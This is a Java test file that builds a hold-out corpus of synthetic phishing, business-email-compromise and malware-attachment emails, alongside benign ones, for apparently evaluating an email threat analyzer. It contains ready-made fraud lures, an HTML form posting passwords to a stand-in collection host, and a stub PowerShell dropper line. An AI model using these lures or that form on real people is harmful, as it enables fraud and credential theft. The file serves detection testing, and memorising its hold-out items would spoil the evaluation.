package org.tegami.threat.corpus;

import static org.tegami.threat.corpus.CorpusFiles.*;

import java.net.IDN;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.tegami.threat.AnalysisContext;
import org.tegami.threat.AuthSummary;
import org.tegami.threat.CorrespondentHistory;
import org.tegami.threat.KnownPerson;

/**
 * A hold-out set, written after the rules were settled and never used to tune them: another
 * organization (Meridian, meridian.test / meridian.co.jp), no correspondence history and no VIPs,
 * as `tegami analyze --data DIR` sees a fresh data directory. Its numbers are reported as they
 * came out the first time (docs/threat.md).
 */
public final class HoldoutCorpus {

    public static final Set<String> DOMAINS = Set.of("meridian.test", "meridian.co.jp");
    public static final List<KnownPerson> PEOPLE = List.of(
            KnownPerson.of("Michael Chen", "michael.chen@meridian.test"), KnownPerson.of("Laura Schmidt", "laura.schmidt@meridian.test"),
            KnownPerson.of("Priya Patel", "priya.patel@meridian.test"), KnownPerson.of("佐藤 由紀", "yuki.sato@meridian.co.jp"),
            KnownPerson.of("加藤 博", "hiroshi.kato@meridian.co.jp"));

    private static final String TO = "Laura Schmidt <laura.schmidt@meridian.test>";
    private static final String TO_JP = "=?UTF-8?B?5L2Q6Jek?= <yuki.sato@meridian.co.jp>";

    private HoldoutCorpus() {}

    public static AnalysisContext context(List<String> authenticationResults) {
        return new AnalysisContext(AuthSummary.fromAuthenticationResults(authenticationResults), DOMAINS, PEOPLE, List.of(),
                CorrespondentHistory.none(), null);
    }

    public static Map<String, byte[]> malicious() {
        Map<String, byte[]> m = new LinkedHashMap<>();
        m.put("ceo-confidential-payment", Eml.of("Michael Chen <m.chen.office@protonmail.com>", TO).subject("Confidential")
                .text("Laura, I need you to take care of a confidential payment today. I'm in back-to-back meetings. "
                        + "Reply with a good time and I'll send the wire instructions.\nMichael").build());
        m.put("ceo-jp-freemail", Eml.of(Eml.addr("加藤 博", "hiroshi.kato.meridian@gmail.com", "UTF-8"), TO_JP).subject("至急お願い", "UTF-8")
                .text("佐藤さん\n取引先への支払いを今日中に振込でお願いしたいです。他の人には言わないでください。詳細は後で送ります。\n加藤", "UTF-8", "base64").build());
        m.put("vendor-bank-change-new-domain", Eml.of("Acme Industrial Billing <billing@acme-industrial-billing.net>", TO)
                .subject("Important: updated remittance information").text("Dear valued customer,\n\nPlease be advised that we have changed "
                        + "our banking details. Effective immediately, all payments must be made to our new account. The old account "
                        + "will no longer accept payments.\n\nBank: Union Coastal\nAccount: 448210093\n\nBilling Dept.").build());
        m.put("giftcard-colleague-gmail", Eml.of("Priya Patel <priya.patel.mrd@gmail.com>", TO).subject("favor")
                .text("Hi Laura, are you free? I need you to pick up some gift cards for a customer. I'll reimburse you. Let me know asap.").build());
        m.put("payroll-direct-deposit", Eml.of("Michael Chen <michaelchen1984@outlook.com>", "Payroll <payroll@meridian.test>")
                .subject("Direct deposit").text("Hello,\n\nI would like to change my direct deposit account before the next pay date. "
                        + "What information do you need from me?\n\nThanks\nMichael").build());
        m.put("m365-link-mismatch", Eml.of("Microsoft account team <account-security@msonline-alerts.com>", TO)
                .subject("Unusual sign-in activity").html("<p>We detected unusual sign-in activity on your account.</p><p>Please review "
                        + "your recent activity: <a href=\"https://login-microsoftonline.com.secure-auth.xyz/review\">https://account.microsoft.com/activity</a></p>").build());
        m.put("dhl-parcel", Eml.of("DHL Express <noreply@dhl-parcel-track.info>", TO).subject("Your parcel is on hold")
                .html("<p>Your package could not be delivered because of unpaid customs fees (2.99 EUR).</p>"
                        + "<p><a href=\"https://dhl-parcel-track.info/pay\">Pay and reschedule delivery</a></p>").build());
        m.put("paypal-limited", Eml.of("PayPal <service@paypal.com-resolution.center>", TO).subject("Your account access is limited")
                .html("<p>We've limited your account. To restore access, confirm your identity within 48 hours.</p>"
                        + "<a href=\"https://paypal.com-resolution.center/restore\">Restore access</a>").build());
        m.put("jp-card-phish", Eml.of(Eml.addr("三井住友カード", "info@smbc-card-riyou.com", "UTF-8"), TO_JP).subject("【重要】ご利用確認のお願い", "UTF-8")
                .html("<p>お客様のカードに不審なご利用がありました。下記よりご利用確認をお願いします。確認いただけない場合、カードのご利用を制限いたします。</p>"
                        + "<a href=\"https://smbc-card-riyou.com/check\">ご利用確認はこちら</a>", "UTF-8").build());
        m.put("zip-exe", Eml.of("Billing <billing@fastfreight-solutions.com>", TO).subject("Invoice #88213").text("Invoice attached.")
                .attach("Invoice_88213.zip", "application/zip", zip("Invoice_88213.pdf.exe", pe())).build());
        m.put("xlsm-macro", Eml.of("Procurement <rfq@global-sourcing-hub.com>", TO).subject("RFQ 2024-17").text("Please fill in the RFQ form.")
                .attach("RFQ_2024-17.xlsm", "application/vnd.ms-excel.sheet.macroEnabled.12", xlsm()).build());
        m.put("iso-po", Eml.of("Purchasing <po@eastbay-traders.com>", TO).subject("Purchase order").text("PO attached.")
                .attach("Purchase_Order.iso", "application/octet-stream", iso("PO")).build());
        m.put("lnk-in-zip", Eml.of("Careers <careers@talent-hunt-partners.com>", TO).subject("Resume").text("Resume attached.")
                .attach("resume.zip", "application/zip", zip("Resume_JohnDoe.docx.lnk", lnk())).build());
        m.put("html-login-attachment", Eml.of("Excel Online <share@onedrive-docs-notify.com>", TO).subject("Shared spreadsheet")
                .text("A spreadsheet was shared with you.").attach("Spreadsheet.html", "text/html",
                        ("<html><body><h2>Sign in to view the document</h2><form action=\"https://collect-creds.example-bad.com/p\" "
                                + "method=\"post\"><input name=\"email\"><input type=\"password\" name=\"pw\"><input type=\"submit\"></form></body></html>").getBytes()).build());
        m.put("pdf-js", Eml.of("Accounts <accounts@nordbank-statements.com>", TO).subject("Statement").text("Statement attached.")
                .attach("statement.pdf", "application/pdf", pdf("Statement", "/OpenAction 5 0 R",
                        "<< /Type /Action /S /JavaScript /JS (app.alert\\('x'\\)) >>")).build());
        m.put("encrypted-zip-password", Eml.of("HR <hr@staff-docs-center.com>", TO).subject("Salary review")
                .text("The salary review document is attached. Password: 7731").attach("salary.zip", "application/zip",
                        encryptedZip(Map.of("salary_review.doc", docWithMacro()), "7731")).build());
        m.put("js-dropper", Eml.of("Remittance <noreply@payment-advice-mail.com>", TO).subject("Payment advice").text("See attached.")
                .attach("payment_advice.js", "text/javascript", "var x=new ActiveXObject('WScript.Shell');x.Run('powershell -enc AAAA');".getBytes()).build());
        m.put("replyto-freemail-invoice", Eml.of("Harbor Consulting <invoices@harborconsult.com>", TO).replyTo("harbor.consult.ap@gmail.com")
                .subject("RE: outstanding invoice").text("Hi Laura,\nPlease settle the outstanding invoice by wire transfer today. "
                        + "Reply to this email with the payment confirmation.\nThanks").build());
        m.put("own-domain-spoof", Eml.of("Michael Chen <michael.chen@meridian.test>", TO)
                .auth("mx.meridian.test; spf=fail smtp.mailfrom=meridian.test; dkim=none; dmarc=fail (p=quarantine) header.from=meridian.test")
                .subject("Wire today").text("Laura, please wire 25,000 USD to the vendor account I'll send next. Urgent.").build());
        m.put("idn-own-domain", Eml.of("Laura Schmidt <laura.schmidt@" + IDN.toASCII("meridіan.test") + ">", "Payroll <payroll@meridian.test>")
                .subject("Bank change").text("Please update my bank details for the next payroll.").build());
        m.put("w2-request", Eml.of("Michael Chen <ceo.michael.chen@yahoo.com>", "Priya Patel <priya.patel@meridian.test>")
                .subject("Request").text("Priya, I need all employees' W-2 forms for an audit today. Send them to me here. Thanks").build());
        m.put("jp-emotet-style", Eml.of(Eml.addr("経理部 山本", "yamamoto@kansai-buhin.jp", "UTF-8"), TO_JP).subject("請求書の件", "UTF-8")
                .text("お世話になっております。\n請求書を送付いたします。\nパスワード：Ks2024\nご確認よろしくお願いいたします。", "UTF-8", "base64")
                .attach("請求書_0611.zip", "application/zip", encryptedZip(Map.of("請求書_0611.doc", docWithMacro()), "Ks2024")).build());
        m.put("onenote", Eml.of("Orders <orders@maple-office-supply.com>", TO).subject("Order details").text("Double click the file to view.")
                .attach("Order_4471.one", "application/onenote", onenote()).build());
        m.put("mailbox-quota", Eml.of("Email Administrator <admin@mail-quota-center.com>", TO).subject("Mailbox storage full")
                .html("<p>Your mailbox has exceeded the storage limit. Incoming messages are on hold. Verify your account to release 14 pending messages.</p>"
                        + "<a href=\"https://mail-quota-center.com/release\">Release messages</a>").build());
        return m;
    }

    public static Map<String, byte[]> legitimate() {
        Map<String, byte[]> m = new LinkedHashMap<>();
        String passOwn = "mx.meridian.test; spf=pass smtp.mailfrom=meridian.test; dkim=pass header.d=meridian.test; dmarc=pass header.from=meridian.test";
        m.put("internal-payment", Eml.of("Michael Chen <michael.chen@meridian.test>", TO).auth(passOwn).subject("Harbor invoice")
                .text("Laura, the Harbor Consulting invoice is approved, please pay it this week. Thanks, Michael").build());
        m.put("internal-it-policy", Eml.of("IT Service Desk <it@meridian.test>", "all@meridian.test").auth(passOwn).subject("Password policy")
                .text("From next month passwords must be 14 characters long. Change yours on the intranet before then.").build());
        m.put("new-partner-invoice", Eml.of("Oakridge Printing <accounts@oakridge-printing.com>", TO).subject("Invoice 2207")
                .text("Hello,\nattached is invoice 2207 for the brochures. Payment terms: 30 days, bank transfer.\nBest regards\nOakridge Printing")
                .attach("Invoice_2207.pdf", "application/pdf", pdf("Invoice 2207", "")).build());
        m.put("jp-partner-invoice", Eml.of(Eml.addr("関西部品 経理", "keiri@kansai-buhin.co.jp", "UTF-8"), TO_JP).subject("5月分請求書送付のご案内", "UTF-8")
                .text("いつもお世話になっております。5月分の請求書を添付いたします。お支払いは6月末日までにお願いいたします。", "UTF-8", "base64")
                .attach("seikyu_05.pdf", "application/pdf", pdf("Seikyu 05", "")).build());
        m.put("newsletter-en", Eml.of("Packly Weekly <hello@packly.io>", TO).returnPath("bounce@em.packly.io").subject("Don't miss out: 30% off labels")
                .html("<p>Don't miss out! 30% off all shipping labels this week only.</p><a href=\"https://click.packly.io/c/1\">Shop now</a>"
                        + "<a href=\"https://packly.io/unsubscribe\">Unsubscribe</a><img src=\"https://click.packly.io/o.gif\" width=\"1\" height=\"1\">").build());
        m.put("newsletter-jp", Eml.of(Eml.addr("物流ニュース", "news@logi-news.jp", "UTF-8"), TO_JP).subject("物流ニュース 6月号", "UTF-8")
                .html("<p>今月の特集：2024年問題への対応</p><a href=\"https://www.logi-news.jp/2406\">記事を読む</a>", "UTF-8").build());
        m.put("github-notification", Eml.of("GitHub <notifications@github.com>", TO)
                .auth("mx.meridian.test; spf=pass smtp.mailfrom=github.com; dkim=pass header.d=github.com; dmarc=pass header.from=github.com")
                .subject("[meridian/app] Pull request #42 merged").text("Merged #42 into main.\nhttps://github.com/meridian/app/pull/42").build());
        m.put("microsoft-security-alert", Eml.of("Microsoft account team <account-security-noreply@accountprotection.microsoft.com>", TO)
                .auth("mx.meridian.test; spf=pass smtp.mailfrom=accountprotection.microsoft.com; dkim=pass header.d=accountprotection.microsoft.com; dmarc=pass header.from=accountprotection.microsoft.com")
                .subject("Microsoft account security info was added").html("<p>The following security info was recently added to your account.</p>"
                        + "<p>If this wasn't you, please review your recent activity: <a href=\"https://account.live.com/activity\">review</a></p>").build());
        m.put("customer-quote", Eml.of("Tom Reyes <tom.reyes.shop@gmail.com>", "sales@meridian.test").subject("Quote request")
                .text("Hi, could you send me a quote for 50 units of item 4471? Thanks, Tom").build());
        m.put("customer-refund", Eml.of("Anna Berg <anna.berg@gmx.test>", "support@meridian.test").subject("Refund please")
                .text("Hello, the item arrived broken. Please refund my payment as soon as possible. Order 5512. Anna").build());
        m.put("vendor-reminder", Eml.of("Accounts <accounts@cityclean-services.com>", TO).subject("Payment reminder: invoice 331")
                .text("Dear customer, this is a reminder that invoice 331 is now 7 days overdue. Please arrange payment. Thank you.").build());
        m.put("fedex-shipment", Eml.of("FedEx <TrackingUpdates@fedex.com>", TO)
                .auth("mx.meridian.test; spf=pass smtp.mailfrom=fedex.com; dkim=pass header.d=fedex.com; dmarc=pass header.from=fedex.com")
                .subject("Your shipment is on its way").html("<p>Your package is scheduled for delivery tomorrow.</p>"
                        + "<a href=\"https://www.fedex.com/fedextrack/?trknbr=1234\">Track</a>").build());
        m.put("partner-meeting", Eml.of("Kenta Mori <k.mori@oceanic-trade.co.jp>", TO).subject("Meeting next week")
                .text("Hi Laura, are you available for a meeting next Tuesday? We'd like to discuss the new contract. Best, Kenta").build());
        m.put("job-application", Eml.of("Sam Lee <samlee.jobs@gmail.com>", "hr@meridian.test").subject("Application: warehouse lead")
                .text("Dear hiring team, please find my CV attached. Regards, Sam").attach("Sam_Lee_CV.pdf", "application/pdf", pdf("CV", "")).build());
        m.put("partner-zip-csv", Eml.of("Data Team <data@oceanic-trade.co.jp>", TO).subject("Monthly export").text("Export attached.")
                .attach("export_may.zip", "application/zip", zip(Map.of("orders.csv", "id,qty\n1,5\n".getBytes(), "returns.csv", "id\n".getBytes()))).build());
        m.put("lawyer-contract", Eml.of("Diane Ward <dward@ward-legal.com>", TO).subject("Draft agreement - confidential")
                .text("Laura, attached is the draft agreement. Please keep it confidential until signing.\nDiane Ward")
                .attach("Agreement_draft.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                        docx("Agreement", "1. Parties")).build());
        m.put("google-calendar-invite", Eml.of("Google Calendar <calendar-notification@google.com>", TO)
                .auth("mx.meridian.test; spf=pass smtp.mailfrom=google.com; dkim=pass header.d=google.com; dmarc=pass header.from=google.com")
                .subject("Invitation: Supplier call").text("You have been invited to Supplier call. Join with Google Meet: https://meet.google.com/abc-defg-hij")
                .calendar("BEGIN:VCALENDAR\nMETHOD:REQUEST\nBEGIN:VEVENT\nSUMMARY:Supplier call\nDESCRIPTION:Join with Google Meet: https://meet.google.com/abc-defg-hij\n"
                        + "DTSTART:20240618T080000Z\nEND:VEVENT\nEND:VCALENDAR").build());
        m.put("hr-enrollment-internal", Eml.of("Priya Patel <priya.patel@meridian.test>", "all@meridian.test").auth(passOwn)
                .subject("Benefits enrollment").text("Benefits enrollment opens on Monday. Log in to the HR portal to make your choices by 30 June.").build());
        m.put("first-name-only", Eml.of("Michael Brown <mbrown@oceanic-trade.co.jp>", TO).subject("Samples")
                .text("Laura, the samples left our warehouse today. Michael").build());
        m.put("jp-internal-nenmatsu", Eml.of(Eml.addr("佐藤 由紀", "yuki.sato@meridian.co.jp", "UTF-8"), "all@meridian.co.jp")
                .subject("年末調整について", "UTF-8").text("各位\n年末調整の書類は11月25日までに提出してください。", "UTF-8", "base64").build());
        m.put("bank-statement-authenticated", Eml.of("Chase <no-reply@alertsp.chase.com>", TO)
                .auth("mx.meridian.test; spf=pass smtp.mailfrom=alertsp.chase.com; dkim=pass header.d=chase.com; dmarc=pass header.from=chase.com")
                .subject("Your statement is ready").html("<p>Your monthly statement is available. Sign in to view it.</p>"
                        + "<a href=\"https://secure.chase.com/web/auth/dashboard\">Sign in</a>").build());
        m.put("docusign-authenticated", Eml.of("Diane Ward via DocuSign <dse_na2@docusign.net>", TO)
                .auth("mx.meridian.test; spf=pass smtp.mailfrom=docusign.net; dkim=pass header.d=docusign.net; dmarc=pass header.from=docusign.net")
                .subject("Please DocuSign: Agreement").html("<p>Diane Ward sent you a document to review and sign.</p>"
                        + "<a href=\"https://na2.docusign.net/Signing/EmailStart.aspx?a=1\">REVIEW DOCUMENT</a>").build());
        m.put("jp-new-vendor-bank-info", Eml.of(Eml.addr("みなと運送 経理", "keiri@minato-unso.co.jp", "UTF-8"), TO_JP)
                .subject("お振込先のご案内", "UTF-8").text("お取引開始にあたり、弊社のお振込先をご案内いたします。\n"
                        + "みずほ銀行 横浜支店 普通 1234567 ミナトウンソウ（カ\n今後ともよろしくお願いいたします。", "UTF-8", "base64").build());
        m.put("out-of-office", Eml.of("Kenta Mori <k.mori@oceanic-trade.co.jp>", TO).subject("Out of office")
                .text("I am out of the office until 20 June with limited access to e-mail. For urgent matters contact our office.").build());
        return m;
    }

    /** Round 2, written after round 1's fixes, more Japanese: judged once and reported as it came out. */
    public static Map<String, byte[]> malicious2() {
        Map<String, byte[]> m = new LinkedHashMap<>();
        m.put("jp-ceo-line", Eml.of(Eml.addr("加藤 博", "kato.hiroshi.ceo@yahoo.co.jp", "UTF-8"), TO_JP).subject("ご相談", "UTF-8")
                .text("佐藤さん\nお疲れ様です。今、社内にいますか？急ぎでお願いしたい件があります。LINEのIDを教えてください。\n加藤", "UTF-8", "base64").build());
        m.put("jp-vendor-bank-change", Eml.of(Eml.addr("関西部品株式会社 経理部", "keiri@kansai-buhin-co.jp", "UTF-8"), TO_JP)
                .subject("振込口座変更のお願い", "UTF-8").text("平素より大変お世話になっております。\n弊社の振込口座が変更となりましたので、"
                        + "今後のお支払いは下記の新しい口座へお振込みください。\n旧口座へのお振込みはできません。\nみどり銀行 本店 普通 9988776", "UTF-8", "base64").build());
        m.put("jp-amazon-suspend", Eml.of(Eml.addr("Amazon.co.jp", "no-reply@amazon-jp-account.xyz", "UTF-8"), TO_JP)
                .subject("お支払い方法の更新が必要です", "UTF-8").html("<p>お客様のお支払い方法に問題があり、アカウントを一時停止しました。"
                        + "下記からお支払い方法を更新してください。</p><a href=\"https://amazon-jp-account.xyz/update\">お支払い方法を更新</a>", "UTF-8").build());
        m.put("jp-tax-refund", Eml.of(Eml.addr("国税庁", "info@nta-kanpu.com", "UTF-8"), TO_JP).subject("【国税庁】還付金のお知らせ", "UTF-8")
                .text("還付金の受け取り手続きが完了していません。以下のURLから本人確認を行ってください。\nhttps://nta-kanpu.com/refund", "UTF-8", "base64").build());
        m.put("jp-doc-macro", Eml.of(Eml.addr("見積担当 田中", "tanaka@hokuriku-kikai.jp", "UTF-8"), TO_JP).subject("お見積書", "UTF-8")
                .text("お世話になっております。お見積書を添付いたします。編集を有効にしてご確認ください。", "UTF-8", "base64")
                .attach("見積書.xls", "application/vnd.ms-excel", xlsWithMacro()).build());
        m.put("jp-zip-lnk", Eml.of(Eml.addr("採用担当", "saiyo@career-entry-jp.com", "UTF-8"), TO_JP).subject("履歴書の送付", "UTF-8")
                .text("履歴書を送付いたします。", "UTF-8", "base64").attach("履歴書.zip", "application/zip", zip("履歴書.pdf.lnk", lnk())).build());
        m.put("en-ceo-wire-lookalike", Eml.of("Michael Chen <michael.chen@meridain.test>", TO).subject("Wire needed")
                .text("Laura, we are closing a deal today and I need a wire of 38,200 USD sent before 3 pm. I'll forward the details. Michael").build());
        m.put("en-sharepoint-lure", Eml.of("SharePoint <no-reply@sharepoint-docs-online.net>", TO).subject("Laura, you have a new document")
                .html("<p>Michael Chen shared \"Q3 Bonus Plan.xlsx\" with you.</p><p>Sign in with your Meridian account to open it.</p>"
                        + "<a href=\"https://meridian-sharepoint.web.app/open\">Open</a>").build());
        m.put("en-voicemail-html", Eml.of("Voice Mail <vm@pbx-voicemail-notify.com>", TO).subject("Voicemail from +1 415 555 0199")
                .text("You have a new voicemail (0:37). Open the attachment to listen.").attach("Voicemail_0037.htm", "text/html",
                        "<html><head><meta http-equiv=\"refresh\" content=\"0;url=https://pbx-voicemail-notify.com/l?u=laura\"></head></html>".getBytes()).build());
        m.put("en-invoice-iso", Eml.of("Accounts <ar@coastal-steel-supply.com>", TO).subject("Invoice 99120").text("Invoice attached.")
                .attach("Invoice_99120.img", "application/octet-stream", iso("INV")).build());
        m.put("en-gift-cards-vip-name", Eml.of("Priya Patel <priya.patel@meridian-mail.test>", TO).subject("Request")
                .text("Hi Laura, I need 6 Google Play gift cards for a client presentation. Can you get them now? Send me the codes. Priya").build());
        m.put("en-encrypted-zip-rar", Eml.of("Purchasing <purchase@east-asia-trading.com>", TO).subject("Order list")
                .text("The order list is in the attached archive. Password: 5521").attach("orders.rar", "application/x-rar-compressed",
                        rar4("orders.exe", pe(), true)).build());
        return m;
    }

    public static Map<String, byte[]> legitimate2() {
        Map<String, byte[]> m = new LinkedHashMap<>();
        m.put("jp-partner-quote-request", Eml.of(Eml.addr("関西部品 営業 山本", "yamamoto@kansai-buhin.co.jp", "UTF-8"), TO_JP)
                .subject("お見積りのお願い", "UTF-8").text("佐藤様\nいつもお世話になっております。添付の仕様でお見積りをお願いできますでしょうか。"
                        + "急ぎで恐縮ですが、今週中にご回答いただけますと幸いです。\n山本", "UTF-8", "base64")
                .attach("shiyou.pdf", "application/pdf", pdf("Shiyou", "")).build());
        m.put("jp-bank-merger-notice", Eml.of(Eml.addr("みなと運送 経理", "keiri@minato-unso.co.jp", "UTF-8"), TO_JP)
                .subject("取引銀行の店舗統合について", "UTF-8").text("平素はお引き立てを賜りありがとうございます。\n取引銀行の店舗統合により、"
                        + "支店番号が変わります。口座番号・口座名義に変更はございません。ご不明な点は担当までお電話ください。", "UTF-8", "base64").build());
        m.put("jp-internal-urgent-payment", Eml.of(Eml.addr("加藤 博", "hiroshi.kato@meridian.co.jp", "UTF-8"), TO_JP)
                .auth("mx.meridian.co.jp; spf=pass smtp.mailfrom=meridian.co.jp; dkim=pass header.d=meridian.co.jp; dmarc=pass header.from=meridian.co.jp")
                .subject("至急：関西部品への支払い", "UTF-8").text("佐藤さん\n関西部品さんへの今月分の支払いを本日中に処理してください。承認済みです。\n加藤", "UTF-8", "base64").build());
        m.put("jp-seminar-newsletter", Eml.of(Eml.addr("ビジネスセミナー事務局", "info@bizseminar.jp", "UTF-8"), TO_JP)
                .subject("【残席わずか】経理DXセミナーのご案内", "UTF-8").html("<p>残席わずかです。お申し込みはお早めに。</p>"
                        + "<a href=\"https://www.bizseminar.jp/entry\">今すぐ申し込む</a><img src=\"https://www.bizseminar.jp/p.gif\" width=\"1\" height=\"1\">", "UTF-8").build());
        m.put("jp-yamato-real", Eml.of(Eml.addr("ヤマト運輸", "mail@kuronekoyamato.co.jp", "UTF-8"), TO_JP)
                .auth("mx.meridian.co.jp; spf=pass smtp.mailfrom=kuronekoyamato.co.jp; dkim=pass header.d=kuronekoyamato.co.jp; dmarc=pass header.from=kuronekoyamato.co.jp")
                .subject("お荷物お届けのお知らせ", "UTF-8").html("<p>お荷物をお届けする予定です。</p>"
                        + "<a href=\"https://toi.kuronekoyamato.co.jp/cgi-bin/tneko\">お届け予定を確認</a>", "UTF-8").build());
        m.put("jp-customer-ppap-password", Eml.of(Eml.addr("北陸機械 田中", "tanaka@hokuriku-kikai.co.jp", "UTF-8"), TO_JP)
                .subject("【パスワード】図面送付の件", "UTF-8").text("先ほどお送りした図面ファイルのパスワードをお送りします。\nパスワード：Hk7731", "UTF-8", "base64").build());
        m.put("en-partner-bank-unchanged", Eml.of("Oakridge Printing <accounts@oakridge-printing.com>", TO).subject("Statement")
                .text("Hello Laura, your statement for May is attached. Our bank details have not changed; please pay to the account on the invoice as usual.")
                .attach("statement_may.pdf", "application/pdf", pdf("Statement May", "")).build());
        m.put("en-colleague-namesake", Eml.of("Laura Schmidt <laura.schmidt@oceanic-trade.co.jp>", "Priya Patel <priya.patel@meridian.test>")
                .subject("Packing list").text("Hi Priya, the packing list for container 7 is attached. Regards, Laura Schmidt, Oceanic Trade")
                .attach("packing_list.pdf", "application/pdf", pdf("Packing list", "")).build());
        m.put("en-zoom-recording", Eml.of("Zoom <no-reply@zoom.us>", TO)
                .auth("mx.meridian.test; spf=pass smtp.mailfrom=zoom.us; dkim=pass header.d=zoom.us; dmarc=pass header.from=zoom.us")
                .subject("Cloud recording is now available").html("<p>Your cloud recording is available.</p>"
                        + "<a href=\"https://us02web.zoom.us/rec/share/abc\">View recording</a>").build());
        m.put("en-supplier-price-increase", Eml.of("Coastal Steel <sales@coastal-steel.com>", TO).subject("Price update from 1 July")
                .text("Dear customer, due to raw material costs our prices will increase by 4% from 1 July. Please update your records "
                        + "with the attached price list.").attach("prices_july.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                        xlsx(new String[][] {{"Item", "Price"}})).build());
        m.put("en-it-vendor-mfa", Eml.of("Okta <noreply@okta.com>", TO)
                .auth("mx.meridian.test; spf=pass smtp.mailfrom=okta.com; dkim=pass header.d=okta.com; dmarc=pass header.from=okta.com")
                .subject("Set up your Okta account").html("<p>Your administrator created an Okta account for you. Activate it within 7 days.</p>"
                        + "<a href=\"https://meridian.okta.com/welcome/abc\">Activate Okta account</a>").build());
        m.put("en-customer-urgent-freemail", Eml.of("Greg Hill <greg.hill.builds@gmail.com>", "sales@meridian.test").subject("Urgent order")
                .text("Hello, we urgently need 40 brackets for a job on Friday. Can you confirm stock and send an invoice? Greg").build());
        return m;
    }
}
